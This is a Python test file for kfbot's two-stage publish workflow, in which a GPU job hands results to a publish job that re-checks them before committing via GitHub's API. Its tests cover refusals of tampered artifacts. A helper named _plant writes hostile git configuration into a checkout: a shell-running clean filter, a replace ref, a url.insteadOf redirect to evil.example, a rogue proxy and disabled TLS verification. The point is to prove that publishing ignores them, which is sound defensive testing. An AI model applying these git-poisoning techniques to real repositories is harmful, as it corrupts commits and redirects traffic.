"""The two-job workflow: the GPU job hands its run over in a folder and writes nothing
to GitHub; `command: publish` re-checks the folder against the repository and commits
through the Git Data API. Real git repositories, the real HTTP fake of GitHub (its Git
Data endpoints backed by the bare repository), `kfbot action` as the runner starts it."""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from test_action import EVENTS, EXAMPLE, REPO, Harness, Run, started_harness
from test_publish import LESSON, _evaluation, _reproduction

from kfbot.evaluate.candidate import content_hash
from kfbot.github.action_io import Result
from kfbot.github.handoff import MANIFEST, PATCH, Recorder, publication_of
from kfbot.github.markers import find_pr_marker
from kfbot.github.publish import Winner
from kfbot.search.branch import commit_detached, open_repo
from kfbot.search.outcome.report import unified_patch

KERNEL = "csrc/softmax.cu::softmax_kernel"
BRANCH = "kfbot/csrc-softmax.cu-softmax_kernel"
SOFTMAX = (EXAMPLE / "csrc" / "softmax.cu").read_text()
FASTER = SOFTMAX.replace("__global__", "// one warp per row, shuffle reductions\n__global__", 1)


@pytest.fixture
def harness(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
            capsys: pytest.CaptureFixture[str]) -> Iterator[Harness]:
    yield from started_harness(tmp_path, monkeypatch, capsys)


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True,
                          check=True).stdout.strip()


def _bare(harness: Harness, *args: str) -> str:
    return _git(harness.tmp, "--git-dir", str(harness.bare), *args)


def _branch_head(harness: Harness, branch: str = BRANCH) -> str | None:
    done = subprocess.run(["git", "--git-dir", str(harness.bare), "rev-parse", "--verify", "-q",
                           f"refs/heads/{branch}"], capture_output=True, text=True, check=False)
    return done.stdout.strip() or None


def hand_over(harness: Harness, files: dict[str, str] | None = None, *,
              event: str = "workflow_dispatch", editable: tuple[str, ...] = ("csrc/softmax.cu",),
              candidate: str | None = None, patch: str | None = None,
              base: str | None = None) -> Path:
    """A handoff folder as the GPU job leaves it, with one verified winner."""
    files = files if files is not None else {"csrc/softmax.cu": FASTER}
    originals = {p: (EXAMPLE / p).read_text() if (EXAMPLE / p).is_file() else None
                 for p in files}
    ev = _evaluation(1.84, candidate or content_hash(files, {}))
    winner = Winner(Path("."), KERNEL, "softmax_kernel", files, ev, "shuffle reductions",
                    (LESSON,), reproduction=_reproduction(ev))
    patch = patch if patch is not None else unified_patch(originals, files)
    base = base or harness.base_sha
    recorder = Recorder(harness.tmp / "artifact")
    recorder.add(publication_of(winner, base, "", editable, patch), patch, harness.tmp)
    recorder.finish(REPO, event, "4242", base, Result("softmax_kernel: 1.84x, verified",
                                                      best_speedup=1.84), lambda text: text)
    return recorder.folder


def publish_job(harness: Harness, event_name: str = "workflow_dispatch",
                event: Path = EVENTS / "workflow_dispatch.json",
                workspace: Path | None = None, **inputs: str) -> Run:
    """`kfbot action` with command publish, on a runner with nothing checked out."""
    runner = harness.tmp / "runner"
    for name in ("output", "summary.md"):
        (runner / name).unlink(missing_ok=True)
    empty = harness.tmp / "no-checkout"
    empty.mkdir(exist_ok=True)
    return harness.run(event_name, event, extra={"GITHUB_WORKSPACE": str(workspace or empty)},
                       command="publish", artifact=str(harness.tmp / "artifact"), **inputs)


def _git_writes(harness: Harness) -> list[str]:
    return [e for e in harness.server.endpoints() if e.startswith(("POST", "PATCH")) and
            "/git/" in e]


# ---- what is published ---------------------------------------------------------------------


def test_the_publish_job_commits_the_artifacts_bytes_through_the_api(harness: Harness) -> None:
    hand_over(harness)
    run = publish_job(harness)
    assert run.code == 0, run.err + run.summary
    head = _branch_head(harness)
    assert head is not None
    assert run.outputs["pr-operation"] == "created"
    assert run.outputs["pr-url"] == f"https://github.com/{REPO}/pull/1"
    assert _bare(harness, "rev-parse", f"{head}^") == harness.base_sha
    changed = _bare(harness, "diff", "--name-only", harness.base_sha, head).splitlines()
    assert changed == [".kfbot/experience.md", "csrc/softmax.cu"]
    blob = subprocess.run(["git", "--git-dir", str(harness.bare), "cat-file", "blob",
                           f"{head}:csrc/softmax.cu"], capture_output=True, check=True).stdout
    assert blob == FASTER.encode()
    assert "warp-shuffle reduction" in _bare(harness, "show", f"{head}:.kfbot/experience.md")
    assert _git_writes(harness) == [f"POST /repos/{REPO}/git/blobs"] * 2 + [
        f"POST /repos/{REPO}/git/trees", f"POST /repos/{REPO}/git/commits",
        f"POST /repos/{REPO}/git/refs"]
    pr = harness.server.pulls[REPO][1]
    assert (pr["head_ref"], pr["base_ref"]) == (BRANCH, "main")
    marker = find_pr_marker(pr["body"], KERNEL)
    assert marker is not None and marker["sha"] == head
    assert marker["candidate"] == content_hash({"csrc/softmax.cu": FASTER}, {})
    assert "softmax_kernel: 1.84x faster" in pr["body"]
    assert "## Published\n\n- ✓ softmax_kernel: opened pull request #1" in run.summary


def test_a_second_publish_of_the_same_winner_changes_nothing(harness: Harness) -> None:
    hand_over(harness)
    assert publish_job(harness).code == 0
    first = _branch_head(harness)
    hand_over(harness)
    run = publish_job(harness)
    assert run.code == 0 and run.outputs["pr-operation"] == "unchanged"
    assert _branch_head(harness) == first and len(harness.server.pulls[REPO]) == 1


# ---- what is refused -------------------------------------------------------------------------


def _outside(harness: Harness) -> None:
    hand_over(harness, {"csrc/softmax.cu": FASTER,
                        "csrc/matmul.cu": "// not the task's\n" + SOFTMAX})


def _workflow(harness: Harness) -> None:
    hand_over(harness, {"csrc/softmax.cu": FASTER, ".github/workflows/ci.yml": "on: push\n"},
              editable=("csrc/softmax.cu", ".github/workflows/ci.yml"))


def _setup_py(harness: Harness) -> None:
    hand_over(harness, {"csrc/softmax.cu": FASTER, "setup.py": "import os\n"},
              editable=("csrc/softmax.cu", "setup.py"))


def _dotdot(harness: Harness) -> None:
    hand_over(harness, {"csrc/../csrc/softmax.cu": FASTER},
              editable=("csrc/../csrc/softmax.cu",))


def _hash(harness: Harness) -> None:
    hand_over(harness, candidate="d" * 64)  # the numbers are of another candidate


def _swapped_patch(harness: Harness) -> None:
    folder = hand_over(harness)
    (place,) = [p for p in folder.iterdir() if p.is_dir()]
    other = unified_patch({"csrc/softmax.cu": SOFTMAX}, {"csrc/softmax.cu": "// EVIL\n"})
    (place / PATCH).write_text(other)


def _swapped_patch_and_hash(harness: Harness) -> None:
    folder = hand_over(harness)
    (place,) = [p for p in folder.iterdir() if p.is_dir()]
    other = unified_patch({"csrc/softmax.cu": SOFTMAX}, {"csrc/softmax.cu": "// EVIL\n"})
    (place / PATCH).write_text(other)
    record = json.loads((place / "publication.json").read_text())
    import hashlib

    record["patch_sha256"] = hashlib.sha256(other.encode()).hexdigest()
    (place / "publication.json").write_text(json.dumps(record))


def _not_applying(harness: Harness) -> None:
    stale = SOFTMAX.replace("__global__", "__global__ /* what the run saw */", 1)
    patch = unified_patch({"csrc/softmax.cu": stale}, {"csrc/softmax.cu": FASTER})
    hand_over(harness, patch=patch)


def _moved(harness: Harness) -> None:
    hand_over(harness)
    harness.push_to_main({"README.md": "moved on\n"})


def _oversize(harness: Harness) -> None:
    huge = FASTER + "// padding\n" * 120_000  # a patch over 1 MiB
    hand_over(harness, {"csrc/softmax.cu": huge})


def _many_files(harness: Harness) -> None:
    hand_over(harness, editable=(*(f"csrc/k{i}.cu" for i in range(40)), "csrc/softmax.cu"))


def _other_run(harness: Harness) -> None:
    folder = hand_over(harness)
    manifest = json.loads((folder / MANIFEST).read_text())
    manifest["run_id"] = "1"
    (folder / MANIFEST).write_text(json.dumps(manifest))


REFUSALS = {
    "a file outside the task": (_outside, "which is not one of the task's editable files"),
    "a workflow file": (_workflow, "under .git, .github or .kfbot"),
    "a file that is not a kernel source": (_setup_py, "not a CUDA or C++ source"),
    "a path with ..": (_dotdot, "not a plain path"),
    "numbers of another candidate": (_hash, "not to the candidate dddddddddddd whose numbers"),
    "a patch swapped after the run": (_swapped_patch, "is not the patch the run recorded"),
    "a patch and its hash swapped": (_swapped_patch_and_hash, "whose numbers the report"),
    "a patch of another base": (_not_applying, "the patch does not apply to csrc/softmax.cu"),
    "a base that moved": (_moved, "the base branch main moved from"),
    "a patch over the size bound": (_oversize, "bytes, more than the 1048576 kfbot reads"),
    "too many files": (_many_files, "41 editable files, more than the 32"),
    "another run's artifact": (_other_run, "the artifact is of run '1', this job's is '4242'"),
}


@pytest.mark.parametrize("case", REFUSALS, ids=list(REFUSALS))
def test_the_publish_job_refuses_with_a_reason(harness: Harness, case: str) -> None:
    make, reason = REFUSALS[case]
    make(harness)
    run = publish_job(harness)
    assert run.code == 1
    assert reason in run.summary, run.summary
    assert _branch_head(harness) is None and _git_writes(harness) == []
    assert harness.server.pulls[REPO] == {}
    assert run.outputs["pr-operation"] == "none"


# ---- a checkout's .git changes nothing ----------------------------------------------------------


class _Listener:
    """A TCP port that counts the connections made to it (a planted proxy)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()


def _plant(workspace: Path, seen: Path, proxy: int) -> None:
    """What a pull request's setup.py or test can write into the checkout's .git."""
    git_dir = workspace / ".git"
    (git_dir / "info").mkdir(exist_ok=True)
    (git_dir / "info" / "attributes").write_text("*.cu filter=evil\n")
    _git(workspace, "config", "filter.evil.clean",
         f"touch {seen}/clean-filter-ran; sed 's/shuffle/EVIL/'")
    _git(workspace, "config", "filter.evil.smudge", "cat")
    evil = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=workspace,
                          input=b"// EVIL replacement\n", capture_output=True,
                          check=True).stdout.decode().strip()
    original = _git(workspace, "rev-parse", "HEAD:csrc/softmax.cu")
    _git(workspace, "replace", original, evil)
    _git(workspace, "config", "url.https://evil.example/.insteadOf", "https://github.com/")
    _git(workspace, "config", "url.https://evil.example/.insteadOf", "http://127.0.0.1")
    _git(workspace, "config", "http.proxy", f"http://127.0.0.1:{proxy}")
    _git(workspace, "config", "http.sslVerify", "false")


def test_filters_replace_refs_insteadof_and_proxies_in_a_checkout_change_nothing(
        harness: Harness) -> None:
    seen = harness.tmp / "seen"
    seen.mkdir()
    proxy = _Listener()
    harness.checkout(harness.base_sha)
    _plant(harness.workspace, seen, proxy.port)
    hand_over(harness)
    # The plants are live: a commit git makes in that checkout takes the filter's bytes.
    place = open_repo(harness.workspace)
    made = commit_detached(place, harness.base_sha, {"csrc/softmax.cu": FASTER}, "control")
    control = _git(harness.workspace, "show", f"{made.sha}:csrc/softmax.cu")
    assert "EVIL" in control and (seen / "clean-filter-ran").exists()
    (seen / "clean-filter-ran").unlink()

    run = publish_job(harness, workspace=harness.workspace)  # as if the job had a checkout
    assert run.code == 0, run.summary
    head = _branch_head(harness)
    assert head is not None
    blob = subprocess.run(["git", "--git-dir", str(harness.bare), "cat-file", "blob",
                           f"{head}:csrc/softmax.cu"], capture_output=True, check=True).stdout
    assert blob == FASTER.encode()
    assert _bare(harness, "diff", "--name-only", harness.base_sha, head).splitlines() == \
        [".kfbot/experience.md", "csrc/softmax.cu"]
    assert list(seen.iterdir()) == [] and proxy.connections == 0


# ---- the GPU job writes nothing to GitHub -------------------------------------------------


def _gpu_job(harness: Harness, event_name: str, event: Path, **inputs: str) -> Run:
    """The GPU job of the split: no token at all, the artifact folder given."""
    return harness.run(event_name, event, drop=("INPUT_TOKEN",),
                       artifact=str(harness.tmp / "artifact"), **inputs)


def test_the_guard_hands_its_verdict_over_and_publish_posts_it(harness: Harness) -> None:
    harness.open_pull()
    event = harness.pull_request_event()
    gpu = _gpu_job(harness, "pull_request", event, command="guard")
    assert gpu.code == 3  # no GPU here: the verdict says the GPU step could not run
    assert harness.server.calls == [] and harness.comments() == []
    manifest = json.loads((harness.tmp / "artifact" / MANIFEST).read_text())
    assert manifest["status"]["state"] == "failed" and manifest["publications"] == []

    run = publish_job(harness, "pull_request", event)
    assert run.code == 0, run.summary
    (body,) = harness.comments()
    assert body.startswith("<!-- kfbot:status pr=1 command=guard -->\n**😕 kfbot: the GPU "
                           "step could not run: no CUDA GPU")
    assert "| softmax_kernel | `csrc/softmax.cu:9` | csrc/softmax.cu | not verified" in body
    assert "actions/runs/4242" in body


def test_a_comment_command_runs_without_a_token_and_publish_answers_it(
        harness: Harness) -> None:
    harness.open_pull()
    event = harness.comment_event("/kfbot scan")
    comment_id = json.loads(event.read_text())["comment"]["id"]
    gpu = _gpu_job(harness, "issue_comment", event, head_sha=harness.head_sha)
    assert gpu.code == 0, gpu.err
    assert harness.server.calls == []
    run = publish_job(harness, "issue_comment", event, head_sha=harness.head_sha)
    assert run.code == 0, run.summary
    (body,) = harness.comments()
    assert body.startswith("<!-- kfbot:status pr=1 command=scan -->\n**🚀 kfbot: 3 CUDA "
                           "kernels found**")
    assert "`/kfbot scan` from @alice" in body and "| softmax_kernel |" in body
    assert harness.reactions(comment_id) == ["rocket"]


def test_a_moved_head_is_said_on_the_pull_request(harness: Harness) -> None:
    harness.open_pull()
    event = harness.comment_event("/kfbot scan")
    gpu = _gpu_job(harness, "issue_comment", event, head_sha=harness.base_sha)
    assert gpu.code == 1
    publish_job(harness, "issue_comment", event, head_sha=harness.base_sha)
    (body,) = harness.comments()
    assert "**😕 kfbot: could not run: the checkout is at" in body
    assert "not at the head of pull request #1" in body


def test_a_gpu_job_that_left_nothing_is_said_on_the_pull_request(harness: Harness) -> None:
    harness.open_pull()
    event = harness.comment_event("/kfbot optimize softmax_kernel")
    (harness.tmp / "artifact").mkdir()
    run = publish_job(harness, "issue_comment", event, head_sha=harness.head_sha)
    assert run.code == 1
    assert "nothing to publish" in run.summary and "handoff.json: missing" in run.summary
    (body,) = harness.comments()
    assert "**😕 kfbot: the GPU job left no result to publish**" in body
    assert "command=optimize:softmax_kernel" in body  # the authorize job's comment, edited


def test_a_pull_request_events_artifact_publishes_no_branch(harness: Harness) -> None:
    harness.open_pull()
    hand_over(harness, event="pull_request")
    run = publish_job(harness, "pull_request", harness.pull_request_event())
    assert run.code == 1
    assert "a pull_request run publishes no pull request" in run.summary
    assert _branch_head(harness) is None and _git_writes(harness) == []


def test_a_forks_code_output_is_not_posted(harness: Harness) -> None:
    harness.push_to_main({".github/kfbot.yaml": "version: 1\ngithub:\n  allow_forks: true\n"})
    harness.open_pull()
    harness.server.add_repo("mallory/kernels-demo", fork=True, parent=REPO)
    harness.server.link_remote("mallory/kernels-demo", harness.bare)
    harness.server.pulls[REPO][1]["head_repo"] = "mallory/kernels-demo"
    event = harness.comment_event(f"/kfbot bench softmax_kernel sha={harness.head_sha}")
    _gpu_job(harness, "issue_comment", event, head_sha=harness.head_sha)
    assert "no CUDA GPU" in (harness.tmp / "artifact" / MANIFEST).read_text()
    publish_job(harness, "issue_comment", event, head_sha=harness.head_sha)
    (body,) = harness.comments()
    assert "**😕 kfbot: failed**" in body
    assert "no CUDA GPU" not in body and "torch" not in body
    assert "comes from a fork, so kfbot posts no output of the code it ran here: the run's " \
           f"log has it: https://github.com/{REPO}/actions/runs/4242" in body


def test_the_publish_entry_point_runs_isolated_as_the_step_starts_it(harness: Harness) -> None:
    """`python -I -m kfbot action` in a process of its own, as action.yml's run step does."""
    hand_over(harness)
    env = {**harness.env("workflow_dispatch", EVENTS / "workflow_dispatch.json",
                         command="publish", artifact=str(harness.tmp / "artifact")),
           "PATH": "/usr/bin:/bin", "GITHUB_WORKSPACE": str(harness.tmp)}
    done = subprocess.run([sys.executable, "-I", "-m", "kfbot", "action"], env=env,
                          cwd=shutil.os.getcwd(), capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "kfbot: softmax_kernel: opened pull request #1" in done.stdout
    shown = [line for line in done.stdout.splitlines() if not line.startswith("::add-mask::")]
    assert harness.server.token not in "\n".join(shown) + done.stderr


# ---- on a GPU: a real search's handoff passes the re-check ------------------------------------


@pytest.mark.gpu
def test_a_gpu_searchs_handoff_passes_the_publish_jobs_recheck(harness: Harness) -> None:
    """The whole split on the example's softmax: the GPU job (no token, no LLM) searches,
    reproduces and hands the winner over without a single request to GitHub; the publish
    job's re-check accepts what it wrote, and what it commits is the run's patch applied
    to the base, byte for byte."""
    harness.checkout(harness.base_sha)
    event = EVENTS / "schedule.json"
    gpu = harness.run("schedule", event, drop=("CUDA_VISIBLE_DEVICES", "INPUT_TOKEN",
                                                 "INPUT_ANTHROPIC_API_KEY"),
                      artifact=str(harness.tmp / "artifact"), kernel="softmax_kernel",
                      budget="16", islands="2")
    assert gpu.code == 0, gpu.summary[-3000:]
    assert harness.server.calls == []
    manifest = json.loads((harness.tmp / "artifact" / MANIFEST).read_text())
    (name,) = manifest["publications"]
    run = publish_job(harness, "schedule", event, min_speedup="1.0")
    assert run.code == 0, run.summary  # a refusal of the re-check would fail the job
    print(run.summary)  # for the record: published, or why the policy skipped it
    if run.outputs["pr-operation"] != "created":
        assert "not published: the reproduction measured" in run.summary, run.summary
        return
    head = _branch_head(harness)
    clone = harness.tmp / "check"
    _git(harness.tmp, "clone", "-q", str(harness.bare), str(clone))
    _git(clone, "checkout", "-q", harness.base_sha)
    _git(clone, "apply", str(harness.tmp / "artifact" / name / PATCH))
    for path in _bare(harness, "diff", "--name-only", harness.base_sha, str(head)).splitlines():
        if path == ".kfbot/experience.md":
            continue
        blob = subprocess.run(["git", "--git-dir", str(harness.bare), "cat-file", "blob",
                               f"{head}:{path}"], capture_output=True, check=True).stdout
        assert blob == (clone / path).read_bytes(), path
